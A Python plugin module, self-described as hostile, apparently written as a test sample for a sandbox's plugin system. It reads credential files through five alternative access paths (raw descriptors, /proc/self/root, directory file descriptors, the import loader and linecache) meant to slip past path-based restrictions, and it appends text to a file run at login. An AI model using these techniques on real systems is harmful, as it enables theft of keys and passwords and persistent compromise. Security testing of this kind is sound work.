"""Hostile: looks for keys and passwords, by every way to a file that comes to mind."""

from __future__ import annotations

import importlib.machinery
import linecache
import os
from typing import TYPE_CHECKING, Final

from sandbox_worker.plugin_api import HookimplMarker

if TYPE_CHECKING:
    from collections.abc import Callable

hookimpl: Final = HookimplMarker("demo")


def _by_descriptor(path: str) -> bytes:
    descriptor = os.open(path, os.O_RDONLY)
    try:
        return os.read(descriptor, 4096)
    finally:
        os.close(descriptor)


def _by_link(path: str) -> bytes:
    """Under another name for the root, which the kernel gives every process."""
    with open("/proc/self/root" + path, "rb") as stream:
        return stream.read(4096)


def _by_folder(path: str) -> bytes:
    """The path in two steps, so that no single text names the file."""
    folder, name = os.path.split(path)
    descriptor = os.open(folder, os.O_PATH | os.O_DIRECTORY)
    try:
        return os.read(os.open(name, os.O_RDONLY, dir_fd=descriptor), 4096)
    finally:
        os.close(descriptor)


def _by_importer(path: str) -> bytes:
    return importlib.machinery.SourceFileLoader("loot", path).get_data(path)


def _by_cache(path: str) -> bytes:
    lines = linecache.getlines(path)
    if not lines:
        raise FileNotFoundError(path)
    return "".join(lines).encode()


_WAYS: Final[tuple[Callable[[str], bytes], ...]] = (_by_descriptor, _by_link, _by_folder, _by_importer, _by_cache)


@hookimpl
def snoop(paths: list[str]) -> dict[str, str]:
    """Return what could be read of each file, up to 4 KiB as Latin-1; a file that resists every way is left out."""
    loot = {}
    for path in map(os.path.expanduser, paths):
        for way in _WAYS:
            try:
                loot[path] = way(path)[:4096].decode("latin-1")
                break
            except OSError:
                continue
    return loot


@hookimpl
def grab(path: str) -> str:
    """Return the content of one file, without a plan for a refusal."""
    with open(path, encoding="latin-1") as stream:
        return stream.read()


@hookimpl
def plant(path: str, text: str) -> None:
    """Append `text` to a file that somebody runs at every login."""
    with open(path, "a", encoding="utf-8") as stream:
        stream.write(text)
